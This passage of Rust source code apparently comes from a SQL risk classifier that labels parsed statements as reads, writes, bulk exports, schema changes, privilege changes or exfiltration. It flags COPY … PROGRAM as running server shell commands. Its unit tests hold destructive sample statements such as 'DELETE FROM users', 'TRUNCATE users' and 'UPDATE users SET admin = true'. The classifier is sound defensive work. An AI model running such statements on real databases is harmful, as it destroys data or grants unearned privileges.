            self.ctx.touch_table(name);
        }
        let from = match &delete.from {
            FromTable::WithFromKeyword(tables) | FromTable::WithoutKeyword(tables) => tables,
        };
        let table = delete
            .tables
            .first()
            .map(last_part)
            .or_else(|| {
                from.first().and_then(|t| match &t.relation {
                    TableFactor::Table { name, .. } => Some(last_part(name)),
                    _ => None,
                })
            })
            .unwrap_or_default();
        self.emit(WRITE, format!("DELETE removes rows from {}", shown(&table)));
        if let Some(why) = unrestricted(delete.selection.as_ref(), delete.limit.is_some()) {
            self.emit(
                DELETE_ALL,
                format!("DELETE {why} removes every row of {}", shown(&table)),
            );
        }
    }

    fn on_explain(&mut self, analyze: bool, options: Option<&[UtilityOption]>, target: &Statement) {
        if explain_runs(analyze, options) {
            self.emit(
                READ,
                "EXPLAIN ANALYZE runs the statement to measure it (its effects happen)",
            );
        } else if is_dml(target) {
            self.emit(READ, "EXPLAIN only plans the statement; it does not run it");
        } else {
            self.emit(
                READ,
                "EXPLAIN of a statement that is classified as if it ran",
            );
        }
    }

    fn on_copy(&mut self, source: &CopySource, to: bool, target: &CopyTarget) {
        if let CopySource::Table { table_name, .. } = source {
            self.ctx.touch_table(table_name);
        }
        if to {
            self.emit(BULK, "COPY … TO exports a whole table or query");
        } else {
            self.emit(WRITE, "COPY … FROM loads rows into a table");
        }
        match target {
            CopyTarget::Program { .. } => self.emit(
                EXFIL,
                "COPY … PROGRAM runs a shell command on the database server",
            ),
            CopyTarget::File { .. } => self.emit(
                EXFIL,
                "COPY with a server file reads or writes the database host's disk",
            ),
            CopyTarget::Stdin | CopyTarget::Stdout => {}
        }
    }

    fn on_copy_into(
        &mut self,
        kind: &sqlparser::ast::CopyIntoSnowflakeKind,
        into: &ObjectName,
        from: Option<&ObjectName>,
    ) {
        if let Some(from) = from {
            self.ctx.touch_table(from);
        }
        match kind {
            sqlparser::ast::CopyIntoSnowflakeKind::Table => {
                self.ctx.touch_table(into);
                self.emit(WRITE, "COPY INTO a table loads files into it");
            }
            sqlparser::ast::CopyIntoSnowflakeKind::Location => {
                self.emit(BULK, "COPY INTO a location unloads data to files");
            }
        }
    }

    fn on_set(&mut self, set: &Set) {
        match set {
            Set::SetRole { .. } => {
                self.emit(ADMIN, "SET ROLE switches to another role's privileges");
            }
            Set::SetSessionAuthorization(_) => self.emit(
                ADMIN,
                "SET SESSION AUTHORIZATION switches the session's user",
            ),
            Set::SingleAssignment {
                scope, variable, ..
            } => self.on_setting(scope.as_ref(), variable),
            Set::MultipleAssignments { assignments } => {
                for assignment in assignments {
                    self.on_setting(assignment.scope.as_ref(), &assignment.name);
                }
            }
            Set::ParenthesizedAssignments { variables, .. } => {
                for variable in variables {
                    self.on_setting(None, variable);
                }
            }
            Set::SetSessionParam(_)
            | Set::SetTimeZone { .. }
            | Set::SetNames { .. }
            | Set::SetNamesDefault {}
            | Set::SetTransaction { .. } => self.emit(READ, "SET changes a session setting only"),
        }
    }

    fn on_setting(&mut self, scope: Option<&ContextModifier>, variable: &ObjectName) {
        let name = object_name(variable);
        let bare = name.trim_start_matches('@');
        let global = matches!(scope, Some(ContextModifier::Global))
            || bare.starts_with("global.")
            || bare.starts_with("persist.")
            || bare.starts_with("persist_only.");
        let setting = bare.rsplit('.').next().unwrap_or(bare);
        if global {
            self.emit(
                ADMIN,
                format!("SET GLOBAL {setting} changes the whole server"),
            );
        } else if SENSITIVE_SETTINGS.contains(&setting) {
            self.emit(
                ADMIN,
                format!(
                    "SET {setting} changes privileges, auditing, read-only mode or how \
                     later SQL is parsed"
                ),
            );
        } else {
            self.emit(
                READ,
                format!("SET {setting} changes a session setting only"),
            );
        }
    }

    fn on_execute(&mut self, name: Option<&ObjectName>, parameters: &[Expr], immediate: bool) {
        let procedure = name.map(last_part).unwrap_or_default();
        if let Some(name) = name {
            self.check_function(name);
        }
        if immediate || name.is_none() || procedure == "sp_executesql" {
            match parameters.first().and_then(string_literal) {
                Some(text) => inspect_nested(self.ctx, text, self.depth),
                None => self.ctx.emit(
                    UNPARSED,
                    "EXECUTE runs SQL text built at run time, which cannot be classified",
                ),
            }
        } else {
            self.emit(
                WRITE,
                format!(
                    "EXECUTE {procedure} runs a prepared statement or procedure whose \
                     effect is not visible here"
                ),
            );
        }
    }

    fn on_call(&mut self, function: &Function) {
        self.check_function(&function.name);
        self.emit(
            WRITE,
            format!(
                "CALL {} runs a stored procedure whose effect is not visible here",
                object_name(&function.name)
            ),
        );
    }

    fn on_drop(&mut self, kind: &ObjectType, names: &[ObjectName], table: Option<&ObjectName>) {
        if matches!(
            kind,
            ObjectType::Table
                | ObjectType::View
                | ObjectType::MaterializedView
                | ObjectType::ForeignTable
        ) {
            for name in names {
                self.ctx.touch_table(name);
            }
        }
        if let Some(table) = table {
            self.ctx.touch_table(table);
        }
        let what = format!("DROP {kind} {}", names_text(names));
        match kind {
            ObjectType::Role | ObjectType::User | ObjectType::Group => self.emit(DCL, what),
            _ => self.emit(DDL, what),
        }
    }

    fn on_pragma(&mut self, name: &ObjectName, has_value: bool, is_eq: bool) {
        let pragma = last_part(name);
        if is_eq || (has_value && !READ_ONLY_PRAGMAS.contains(&pragma.as_str())) {
            self.emit(ADMIN, format!("PRAGMA {pragma} changes database settings"));
        } else {
            self.emit(READ, format!("PRAGMA {pragma} reports settings"));
        }
    }

    fn on_use(&mut self, used: &Use) {
        match used {
            Use::Role(_) | Use::SecondaryRoles(_) => {
                self.emit(ADMIN, "USE ROLE switches the session's privileges");
            }
            _ => self.emit(READ, "USE changes the default database or schema"),
        }
    }

    fn on_fetch(&mut self, direction: &FetchDirection, into: Option<&ObjectName>) {
        self.emit(READ, "FETCH reads rows from a cursor");
        if let Some(into) = into {
            self.ctx.touch_table(into);
            self.emit(WRITE, "FETCH … INTO writes the rows into a table");
        }
        let count = match direction {
            FetchDirection::All | FetchDirection::ForwardAll | FetchDirection::BackwardAll => None,
            FetchDirection::Count { limit }
            | FetchDirection::Forward { limit: Some(limit) }
            | FetchDirection::Backward { limit: Some(limit) } => {
                value_u64(limit).or(Some(u64::MAX))
            }
            _ => Some(1),
        };
        if count.is_none_or(|n| n > self.ctx.options.bulk_row_limit) {
            self.emit(BULK, "FETCH may read more rows than the bulk row limit");
        }
    }

    fn on_privileges(&mut self, verb: &str, objects: Option<&GrantObjects>) {
        if let Some(GrantObjects::Tables(tables)) = objects {
            for table in tables {
                self.ctx.touch_table(table);
            }
        }
        self.emit(DCL, format!("{verb} changes privileges"));
    }

    fn on_comment(&mut self, kind: &CommentObject, name: &ObjectName) {
        match kind {
            CommentObject::Table
            | CommentObject::View
            | CommentObject::MaterializedView
            | CommentObject::ForeignTable => self.ctx.touch_table(name),
            CommentObject::Column => {
                let parts = name_parts(name);
                if let [.., table, column] = parts.as_slice() {
                    self.ctx.touch_column(table, column);
                    self.ctx
                        .touch_table(&ObjectName::from(vec![Ident::new(table.as_str())]));
                }
            }
            _ => {}
        }
        self.emit(
            DDL,
            format!("COMMENT ON {kind} changes the schema's comments"),
        );
    }

    /// `TABLE t` (in a set operation) reads a table that no visitor hook names.
    fn on_table_commands(&mut self, body: &SetExpr) {
        let mut pending = vec![body];
        while let Some(node) = pending.pop() {
            match node {
                SetExpr::SetOperation { left, right, .. } => {
                    pending.push(left);
                    pending.push(right);
                }
                SetExpr::Table(table) => {
                    let parts: Vec<Ident> = [&table.schema_name, &table.table_name]
                        .into_iter()
                        .flatten()
                        .cloned()
                        .collect();
                    let name = ObjectName::from(parts);
                    self.ctx.touch_table(&name);
                    if !self.in_explain() && self.ctx.is_sensitive(&name) {
                        let table = object_name(&name);
                        self.emit(
                            BULK,
                            format!("TABLE {table} returns every column of a sensitive table"),
                        );
                    }
                }
                _ => {}
            }
        }
    }

    fn on_select(&mut self, select: &Select) {
        if let Some(into) = &select.into {
            let names: Vec<ObjectName> = into.targets.iter().filter_map(expr_object_name).collect();
            let variables_only = !names.is_empty()
                && names.len() == into.targets.len()
                && names.iter().all(|n| object_name(n).starts_with('@'));
            if !variables_only {
                for name in &names {
                    self.ctx.touch_table(name);
                }
                self.emit(WRITE, "SELECT … INTO writes the result into a new table");
            }
        }
        self.touch_selected_columns(select);
        if !self.in_explain() && has_wildcard(select) {
            for name in select_tables(select) {
                if self.ctx.is_sensitive(name) {
                    let table = object_name(name);
                    self.emit(BULK, format!("SELECT * from sensitive table {table}"));
                }
            }
        }
    }

    /// `column:table.col` for plain column references of a single-table `SELECT`.
    fn touch_selected_columns(&mut self, select: &Select) {
        let [from] = select.from.as_slice() else {
            return;
        };
        let TableFactor::Table {
            name, alias, args, ..
        } = &from.relation
        else {
            return;
        };
        if !from.joins.is_empty() || args.is_some() {
            return;
        }
        let table = last_part(name);
        let alias = alias.as_ref().map(|a| a.name.value.to_lowercase());
        for item in &select.projection {
            let expr = match item {
                SelectItem::UnnamedExpr(expr) | SelectItem::ExprWithAlias { expr, .. } => expr,
                _ => continue,
            };
            let column = match expr {
                Expr::Identifier(ident) => Some(ident.value.to_lowercase()),
                Expr::CompoundIdentifier(parts) => match parts.as_slice() {
                    [qualifier, column] => {
                        let q = qualifier.value.to_lowercase();
                        (q == table || alias.as_deref() == Some(q.as_str()))
                            .then(|| column.value.to_lowercase())
                    }
                    _ => None,
                },
                _ => None,
            };
            if let Some(column) = column {
                self.ctx.touch_column(&table, &column);
            }
        }
    }

    fn frame_for(statement: &Statement) -> Frame {
        match statement {
            Statement::Explain {
                analyze,
                options,
                statement,
                ..
            } => {
                if explain_runs(*analyze, options.as_deref()) || !is_dml(statement) {
                    Frame::Explain
                } else {
                    Frame::PlanOnly
                }
            }
            _ => Frame::Plain,
        }
    }
}

impl VisitorMut for Walker<'_, '_> {
    type Break = Infallible;

    fn pre_visit_statement(&mut self, statement: &mut Statement) -> ControlFlow<Infallible> {
        self.on_statement(statement);
        self.frames.push(Self::frame_for(statement));
        ControlFlow::Continue(())
    }

    fn post_visit_statement(&mut self, _statement: &mut Statement) -> ControlFlow<Infallible> {
        self.frames.pop();
        ControlFlow::Continue(())
    }

    fn pre_visit_query(&mut self, query: &mut Query) -> ControlFlow<Infallible> {
        self.on_table_commands(&query.body);
        if !query.locks.is_empty() {
            self.emit(
                WRITE,
                "locking read (FOR UPDATE / FOR SHARE) takes row locks: write intent",
            );
        }
        ControlFlow::Continue(())
    }

    fn post_visit_query(&mut self, query: &mut Query) -> ControlFlow<Infallible> {
        dismantle_set_expr(&mut query.body);
        ControlFlow::Continue(())
    }

    fn pre_visit_select(&mut self, select: &mut Select) -> ControlFlow<Infallible> {
        self.on_select(select);
        ControlFlow::Continue(())
    }

    fn pre_visit_table_factor(&mut self, factor: &mut TableFactor) -> ControlFlow<Infallible> {
        match factor {
            TableFactor::Table {
                args: Some(_),
                name,
                ..
            } => {
                self.check_function(name);
                self.function_relation = true;
            }
            TableFactor::Function { name, .. } => self.check_function(name),
            _ => {}
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_relation(&mut self, relation: &mut ObjectName) -> ControlFlow<Infallible> {
        if self.function_relation {
            self.function_relation = false;
        } else {
            self.ctx.touch_table(relation);
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_expr(&mut self, expr: &mut Expr) -> ControlFlow<Infallible> {
        if let Expr::Function(function) = expr {
            self.check_function(&function.name);
        }
        ControlFlow::Continue(())
    }

    fn post_visit_expr(&mut self, expr: &mut Expr) -> ControlFlow<Infallible> {
        // The children were already replaced by leaves, so dropping this node is shallow.
        *expr = Expr::Value(Value::Null.with_empty_span());
        ControlFlow::Continue(())
    }
}

/// Takes a chain of set operations apart without recursion (a `… UNION …` chain can be
/// thousands of nodes deep, and dropping it recursively would overflow the stack).
fn dismantle_set_expr(body: &mut SetExpr) {
    let mut pending = Vec::new();
    if let SetExpr::SetOperation { left, right, .. } = body {
        pending.push(take_set_expr(left));
        pending.push(take_set_expr(right));
    }
    while let Some(mut node) = pending.pop() {
        if let SetExpr::SetOperation { left, right, .. } = &mut node {
            pending.push(take_set_expr(left));
            pending.push(take_set_expr(right));
        }
    }
}

fn take_set_expr(node: &mut SetExpr) -> SetExpr {
    std::mem::replace(
        node,
        SetExpr::Values(Values {
            explicit_row: false,
            value_keyword: false,
            rows: Vec::new(),
        }),
    )
}

/// The label and description of statements whose meaning follows from their kind alone.
/// Exhaustive on purpose: a new sqlparser statement kind fails the build here instead of
/// being let through unlabelled.
fn simple_effect(statement: &Statement) -> (&'static str, &'static str) {
    match statement {
        // Handled in `Walker::on_statement`; listed so that this match stays exhaustive.
        Statement::Query(_)
        | Statement::Insert(_)
        | Statement::Update(_)
        | Statement::Delete(_)
        | Statement::Merge(_)
        | Statement::Explain { .. }
        | Statement::Copy { .. }
        | Statement::CopyIntoSnowflake { .. }
        | Statement::Set(_)
        | Statement::Execute { .. }
        | Statement::Call(_)
        | Statement::Drop { .. }
        | Statement::Truncate(_)
        | Statement::Pragma { .. }
        | Statement::Use(_)
        | Statement::Fetch { .. }
        | Statement::Grant(_)
        | Statement::Revoke(_)
        | Statement::RenameTable(_)
        | Statement::Comment { .. }
        | Statement::LoadData { .. }
        | Statement::LockTables { .. }
        | Statement::Directory { .. } => (WRITE, "statement that changes data"),

        Statement::ShowFunctions { .. }
        | Statement::ShowVariable { .. }
        | Statement::ShowStatus { .. }
        | Statement::ShowVariables { .. }
        | Statement::ShowCreate { .. }
        | Statement::ShowColumns { .. }
        | Statement::ShowCatalogs { .. }
        | Statement::ShowDatabases { .. }
        | Statement::ShowProcessList { .. }
        | Statement::ShowSchemas { .. }
        | Statement::ShowCharset(_)
        | Statement::ShowObjects(_)
        | Statement::ShowTables { .. }
        | Statement::ShowViews { .. }
        | Statement::ShowCollation { .. }
        | Statement::ExplainTable { .. }
        | Statement::List(_) => (READ, "SHOW/DESCRIBE reads metadata"),

        Statement::StartTransaction { .. }
        | Statement::Commit { .. }
        | Statement::Rollback { .. }
        | Statement::Savepoint { .. }
        | Statement::ReleaseSavepoint { .. } => (READ, "transaction control changes no data"),

        Statement::Declare { .. }
        | Statement::Open(_)
        | Statement::Close { .. }
        | Statement::Deallocate { .. }
        | Statement::Prepare { .. }
        | Statement::Discard { .. }
        | Statement::Reset(_)
        | Statement::AlterSession { .. }
        | Statement::UnlockTables
        | Statement::LISTEN { .. }
        | Statement::UNLISTEN { .. } => (READ, "session or cursor statement changes no data"),

        Statement::Case(_)
        | Statement::If(_)
        | Statement::While(_)
        | Statement::Raise(_)
        | Statement::RaisError { .. }
        | Statement::Throw(_)
        | Statement::Print(_)
        | Statement::Return(_)
        | Statement::Assert { .. }
        | Statement::WaitFor(_) => (READ, "control flow (the statements inside are classified)"),

        Statement::Lock(_) => (WRITE, "LOCK TABLE locks tables (write intent)"),
        Statement::NOTIFY { .. } => (WRITE, "NOTIFY sends a message to other sessions"),
        Statement::RefreshMaterializedView(_) => (WRITE, "REFRESH MATERIALIZED VIEW rewrites it"),
        Statement::Cache { .. } | Statement::UNCache { .. } => (WRITE, "CACHE/UNCACHE TABLE"),
        Statement::Put { .. } => (WRITE, "PUT uploads a file to a stage"),
        Statement::Remove(_) => (WRITE, "REMOVE deletes files from a stage"),
        Statement::Unload { .. } => (BULK, "UNLOAD exports query results to files"),
        Statement::ExportData(_) => (BULK, "EXPORT DATA exports query results to files"),

        Statement::CreateView(_)
        | Statement::CreateTable(_)
        | Statement::CreateVirtualTable { .. }
        | Statement::CreateIndex(_)
        | Statement::CreateServer(_)
        | Statement::CreateForeignTable(_)
        | Statement::CreateForeignDataWrapper(_)
        | Statement::CreateRule(_)
        | Statement::CreateConnector(_)
        | Statement::CreateOperator(_)
        | Statement::CreateOperatorFamily(_)
        | Statement::CreateOperatorClass(_)
        | Statement::CreateTextSearch(_)
        | Statement::CreateAggregate(_)
        | Statement::CreateCollation(_)
        | Statement::CreateSchema { .. }
        | Statement::CreateDatabase { .. }
        | Statement::CreateFunction(_)
        | Statement::CreateTrigger(_)
        | Statement::CreateProcedure { .. }
        | Statement::CreateMacro { .. }
        | Statement::CreateStage { .. }
        | Statement::CreateFileFormat { .. }
        | Statement::CreateWarehouse(_)
        | Statement::CreateSequence { .. }
        | Statement::CreateDomain(_)
        | Statement::CreateType { .. } => (DDL, "CREATE changes the schema"),

        Statement::AlterTable(_)
        | Statement::AlterSchema(_)
        | Statement::AlterIndex { .. }
        | Statement::AlterView(_)
        | Statement::AlterFunction(_)
        | Statement::AlterType(_)
        | Statement::AlterCollation(_)
        | Statement::AlterOperator(_)
        | Statement::AlterOperatorFamily(_)
        | Statement::AlterOperatorClass(_)
        | Statement::AlterTextSearch(_)
        | Statement::AlterTrigger(_)
        | Statement::AlterConnector { .. } => (DDL, "ALTER changes the schema"),

        Statement::DropFunction(_)
        | Statement::DropDomain(_)
        | Statement::DropProcedure { .. }
        | Statement::DropRule(_)
        | Statement::DropConnector { .. }
        | Statement::DropOperator(_)
        | Statement::DropOperatorFamily(_)
        | Statement::DropOperatorClass(_)
        | Statement::DropTrigger(_) => (DDL, "DROP changes the schema"),

        Statement::CreateRole(_)
        | Statement::AlterRole { .. }
        | Statement::CreateUser(_)
        | Statement::AlterUser(_)
        | Statement::GrantRole(_)
        | Statement::RevokeRole(_)
        | Statement::Deny(_)
        | Statement::AlterDefaultPrivileges(_)
        | Statement::CreatePolicy(_)
        | Statement::AlterPolicy(_)
        | Statement::DropPolicy(_)
        | Statement::CreateUserMapping(_)
        | Statement::CreateSecret { .. }
        | Statement::DropSecret { .. } => (DCL, "changes roles, users, privileges or credentials"),

        Statement::CreateExtension(_) | Statement::DropExtension(_) => (
            ADMIN,
            "CREATE/DROP EXTENSION installs or removes server code",
        ),
        Statement::Install { .. } | Statement::Load { .. } => {
            (ADMIN, "INSTALL/LOAD loads server code")
        }
        Statement::AttachDatabase { .. }
        | Statement::AttachDuckDBDatabase { .. }
        | Statement::DetachDuckDBDatabase { .. } => {
            (ADMIN, "ATTACH/DETACH opens or closes database files")
        }
        Statement::Kill { .. } => (ADMIN, "KILL ends another session or query"),
        Statement::Flush { .. } => (ADMIN, "FLUSH resets server caches, logs or privileges"),
        Statement::Vacuum(_)
        | Statement::Analyze(_)
        | Statement::OptimizeTable { .. }
        | Statement::Msck(_) => (ADMIN, "database maintenance (VACUUM, ANALYZE, OPTIMIZE…)"),
    }
}

/// Whether an `EXPLAIN` runs its statement (`ANALYZE`, or a true `(ANALYZE …)` option).
fn explain_runs(analyze: bool, options: Option<&[UtilityOption]>) -> bool {
    analyze
        || options.unwrap_or_default().iter().any(|option| {
            option.name.value.eq_ignore_ascii_case("analyze")
                && !option.arg.as_ref().is_some_and(is_false)
        })
}

fn is_false(expr: &Expr) -> bool {
    let text = match expr {
        Expr::Value(v) => match &v.value {
            Value::Boolean(b) => return !b,
            Value::Number(n, _) => n.to_string(),
            other => match string_value(other) {
                Some(s) => s.to_owned(),
                None => return false,
            },
        },
        Expr::Identifier(ident) => ident.value.clone(),
        _ => return false,
    };
    matches!(
        text.to_ascii_lowercase().as_str(),
        "false" | "off" | "0" | "no"
    )
}

/// Statements whose `EXPLAIN` only plans them.
fn is_dml(statement: &Statement) -> bool {
    matches!(
        statement,
        Statement::Query(_)
            | Statement::Insert(_)
            | Statement::Update(_)
            | Statement::Delete(_)
            | Statement::Merge(_)
    )
}

/// Why a `WHERE`/`LIMIT` pair does not restrict the rows, if it does not.
fn unrestricted(selection: Option<&Expr>, limited: bool) -> Option<&'static str> {
    if limited {
        return None;
    }
    match selection {
        None => Some("without WHERE"),
        Some(condition) if always_true(condition, 0) => Some("with an always-true WHERE"),
        Some(_) => None,
    }
}

/// Conditions that are true whatever the row: `TRUE`, `1`, `1=1`, `'a'='a'`, `x OR TRUE`.
fn always_true(expr: &Expr, depth: usize) -> bool {
    if depth > MAX_HELPER_DEPTH {
        return false;
    }
    match expr {
        Expr::Value(v) => match &v.value {
            Value::Boolean(b) => *b,
            Value::Number(n, _) => n.to_string().parse::<f64>().is_ok_and(|x| x != 0.0),
            _ => false,
        },
        Expr::Nested(inner) => always_true(inner, depth + 1),
        Expr::BinaryOp { left, op, right } => match op {
            BinaryOperator::Or => always_true(left, depth + 1) || always_true(right, depth + 1),
            BinaryOperator::And => always_true(left, depth + 1) && always_true(right, depth + 1),
            BinaryOperator::Eq => is_literal(left) && left == right,
            _ => false,
        },
        _ => false,
    }
}

fn is_literal(expr: &Expr) -> bool {
    matches!(expr, Expr::Value(v) if !matches!(v.value, Value::Null | Value::Placeholder(_)))
}

/// Whether a query body returns rows read by a `SELECT`, `VALUES` or `TABLE`.
fn body_reads(body: &SetExpr, depth: usize) -> bool {
    if depth > MAX_HELPER_DEPTH {
        return true;
    }
    match body {
        SetExpr::Select(_) | SetExpr::Values(_) | SetExpr::Table(_) => true,
        SetExpr::Query(query) => body_reads(&query.body, depth + 1),
        SetExpr::SetOperation { left, right, .. } => {
            body_reads(left, depth + 1) || body_reads(right, depth + 1)
        }
        SetExpr::Insert(_) | SetExpr::Update(_) | SetExpr::Delete(_) | SetExpr::Merge(_) => false,
    }
}

/// The most rows a query can return, when a `LIMIT`, `FETCH`, `TOP` or its shape bounds
/// them; `None` when nothing does.
fn row_bound(query: &Query, depth: usize) -> Option<u64> {
    if depth > MAX_HELPER_DEPTH {
        return None;
    }
    let own = limit_bound(query);
    let body = body_bound(&query.body, depth + 1);
    match (own, body) {
        (Some(a), Some(b)) => Some(a.min(b)),
        (a, b) => a.or(b),
    }
}

fn limit_bound(query: &Query) -> Option<u64> {
    let limit = match &query.limit_clause {
        Some(LimitClause::LimitOffset {
            limit: Some(limit), ..
        })
        | Some(LimitClause::OffsetCommaLimit { limit, .. }) => literal_u64(limit),
        _ => None,
    };
    let fetch = query.fetch.as_ref().and_then(|fetch| {
        if fetch.percent {
            None
        } else {
            fetch.quantity.as_ref().map_or(Some(1), literal_u64)
        }
    });
    match (limit, fetch) {
        (Some(a), Some(b)) => Some(a.min(b)),
        (a, b) => a.or(b),
    }
}

fn body_bound(body: &SetExpr, depth: usize) -> Option<u64> {
    if depth > MAX_HELPER_DEPTH {
        return None;
    }
    match body {
        SetExpr::Select(select) => select_bound(select),
        SetExpr::Query(query) => row_bound(query, depth + 1),
        SetExpr::SetOperation { left, right, .. } => {
            let left = body_bound(left, depth + 1)?;
            let right = body_bound(right, depth + 1)?;
            Some(left.saturating_add(right))
        }
        SetExpr::Values(values) => Some(u64::try_from(values.rows.len()).unwrap_or(u64::MAX)),
        SetExpr::Table(_) => None,
        // DML bodies return only RETURNING rows; the write labels cover them.
        SetExpr::Insert(_) | SetExpr::Update(_) | SetExpr::Delete(_) | SetExpr::Merge(_) => Some(0),
    }
}

fn select_bound(select: &Select) -> Option<u64> {
    if let Some(top) = &select.top {
        if top.percent {
            return None;
        }
        return match &top.quantity {
            Some(TopQuantity::Constant(n)) => Some(*n),
            Some(TopQuantity::Expr(expr)) => literal_u64(expr),
            None => None,
        };
    }
    if select.from.is_empty() {
        return Some(1);
    }
    let grouped = match &select.group_by {
        GroupByExpr::All(_) => true,
        GroupByExpr::Expressions(exprs, _) => !exprs.is_empty(),
    };
    (!grouped && !select.projection.is_empty() && select.projection.iter().all(is_aggregate))
        .then_some(1)
}

fn is_aggregate(item: &SelectItem) -> bool {
    let expr = match item {
        SelectItem::UnnamedExpr(expr) | SelectItem::ExprWithAlias { expr, .. } => expr,
        _ => return false,
    };
    match expr {
        Expr::Function(function) => {
            function.over.is_none()
                && SCALAR_AGGREGATES.contains(&last_part(&function.name).as_str())
                && !matches!(function.args, FunctionArguments::Subquery(_))
        }
        _ => false,
    }
}

fn literal_u64(expr: &Expr) -> Option<u64> {
    match expr {
        Expr::Value(value) => value_u64(value),
        Expr::Nested(inner) => match inner.as_ref() {
            Expr::Value(value) => value_u64(value),
            _ => None,
        },
        _ => None,
    }
}

fn value_u64(value: &ValueWithSpan) -> Option<u64> {
    match &value.value {
        Value::Number(n, _) => n.to_string().parse().ok(),
        _ => None,
    }
}

/// The text of a string literal, whatever its quoting.
fn string_literal(expr: &Expr) -> Option<&str> {
    match expr {
        Expr::Value(value) => string_value(&value.value),
        _ => None,
    }
}

fn string_value(value: &Value) -> Option<&str> {
    match value {
        Value::SingleQuotedString(s)
        | Value::DoubleQuotedString(s)
        | Value::TripleSingleQuotedString(s)
        | Value::TripleDoubleQuotedString(s)
        | Value::EscapedStringLiteral(s)
        | Value::UnicodeStringLiteral(s)
        | Value::NationalStringLiteral(s)
        | Value::SingleQuotedRawStringLiteral(s)
        | Value::DoubleQuotedRawStringLiteral(s) => Some(s),
        Value::DollarQuotedString(s) => Some(&s.value),
        _ => None,
    }
}

fn has_wildcard(select: &Select) -> bool {
    select.projection.iter().any(|item| {
        matches!(
            item,
            SelectItem::Wildcard(_) | SelectItem::QualifiedWildcard(..)
        )
    })
}

/// The tables named directly in a `SELECT`'s `FROM` (joins included).
fn select_tables(select: &Select) -> Vec<&ObjectName> {
    let mut names = Vec::new();
    for from in &select.from {
        let factors = std::iter::once(&from.relation).chain(from.joins.iter().map(|j| &j.relation));
        for factor in factors {
            if let TableFactor::Table {
                name, args: None, ..
            } = factor
            {
                names.push(name);
            }
        }
    }
    names
}

/// A table name written as an expression (`SELECT … INTO t`).
fn expr_object_name(expr: &Expr) -> Option<ObjectName> {
    match expr {
        Expr::Identifier(ident) => Some(ObjectName::from(vec![ident.clone()])),
        Expr::CompoundIdentifier(parts) => Some(ObjectName::from(parts.clone())),
        _ => None,
    }
}

/// The lowercase, unquoted parts of a name (empty parts, as in `master..t`, left out).
fn name_parts(name: &ObjectName) -> Vec<String> {
    name.0
        .iter()
        .map(|part| match part {
            ObjectNamePart::Identifier(ident) => ident.value.to_lowercase(),
            ObjectNamePart::Function(function) => function.name.value.to_lowercase(),
        })
        .filter(|part| !part.is_empty())
        .collect()
}

/// A name as `schema.table`, lowercased and unquoted.
fn object_name(name: &ObjectName) -> String {
    name_parts(name).join(".")
}

/// The last part of a name (`customers` for `public.customers`), lowercased.
fn last_part(name: &ObjectName) -> String {
    name_parts(name).pop().unwrap_or_default()
}

fn names_text(names: &[ObjectName]) -> String {
    let mut text: Vec<String> = names.iter().take(3).map(object_name).collect();
    if names.len() > 3 {
        text.push("…".to_owned());
    }
    text.join(", ")
}

fn shown(table: &str) -> &str {
    if table.is_empty() { "a table" } else { table }
}

fn shorten(text: &str) -> String {
    if text.chars().count() <= MAX_ERROR_CHARS {
        text.to_owned()
    } else {
        let mut short: String = text.chars().take(MAX_ERROR_CHARS).collect();
        short.push('…');
        short
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::classify::Risk;

    fn classify_with(dialect: SqlDialect, sql: &str) -> Classification {
        let options = SqlOptions::new(dialect).with_sensitive_tables(["customers", "users"]);
        let mut out = Classification::new();
        inspect_sql(sql, &options, "/sql", &mut out);
        out
    }

    fn pg(sql: &str) -> Classification {
        classify_with(SqlDialect::Postgres, sql)
    }

    fn labels(c: &Classification) -> Vec<&str> {
        c.labels.iter().map(String::as_str).collect()
    }

    #[track_caller]
    fn assert_labels(c: &Classification, present: &[&str], absent: &[&str]) {
        for label in present {
            assert!(c.has_label(label), "missing {label}: got {:?}", labels(c));
        }
        for label in absent {
            assert!(
                !c.has_label(label),
                "unexpected {label}: got {:?}",
                labels(c)
            );
        }
    }

    #[test]
    fn reads_are_low() {
        let c = pg("SELECT id, name FROM orders WHERE id = 7 LIMIT 10");
        assert_eq!(labels(&c), ["sql.read"]);
        assert_eq!(c.risk, Risk::Low);
        assert!(
            c.findings
                .iter()
                .all(|f| f.pointer.as_deref() == Some("/sql"))
        );
        assert_labels(&pg("SHOW search_path"), &["sql.read"], &["sql.write"]);
        assert_labels(&pg("VALUES (1), (2)"), &["sql.read"], &["sql.bulk_read"]);
    }

    #[test]
    fn writes_of_every_kind() {
        for sql in [
            "INSERT INTO orders (id) VALUES (1)",
            "UPDATE orders SET total = 0 WHERE id = 1",
            "DELETE FROM orders WHERE id = 1",
            "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
            "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET x = 1",
            "COPY orders FROM STDIN",
            "SELECT * INTO archive FROM orders",
            "SELECT nextval('orders_id_seq')",
        ] {
            assert_labels(&pg(sql), &["sql.write"], &["sql.unparsed"]);
        }
        let replace = classify_with(SqlDialect::Mysql, "REPLACE INTO t VALUES (1)");
        assert_labels(&replace, &["sql.write"], &["sql.unparsed"]);
    }

    #[test]
    fn where_decides_the_all_labels() {
        assert_labels(
            &pg("DELETE FROM users"),
            &["sql.write", "sql.delete_all"],
            &[],
        );
        assert_eq!(pg("DELETE FROM users").risk, Risk::Critical);
        assert_labels(
            &pg("DELETE FROM users WHERE id = 1"),
            &["sql.write"],
            &["sql.delete_all"],
        );
        assert_labels(&pg("DELETE FROM users WHERE 1=1"), &["sql.delete_all"], &[]);
        assert_labels(
            &pg("UPDATE users SET admin = true"),
            &["sql.update_all"],
            &[],
        );
        assert_labels(
            &pg("UPDATE users SET a = 1 WHERE TRUE OR x"),
            &["sql.update_all"],
            &[],
        );
        assert_labels(
            &pg("UPDATE users SET admin = true WHERE id = 3"),
            &["sql.write"],
            &["sql.update_all"],
        );
        let limited = classify_with(SqlDialect::Mysql, "DELETE FROM logs LIMIT 100");
        assert_labels(&limited, &["sql.write"], &["sql.delete_all"]);
        assert_labels(&pg("TRUNCATE users"), &["sql.ddl", "sql.delete_all"], &[]);
    }

    #[test]
    fn ddl_dcl_and_admin() {
        assert_labels(&pg("CREATE TABLE t (id int)"), &["sql.ddl"], &["sql.write"]);
        assert_labels(&pg("ALTER TABLE users ADD COLUMN x int"), &["sql.ddl"], &[]);
        assert_labels(&pg("COMMENT ON TABLE users IS 'x'"), &["sql.ddl"], &[]);
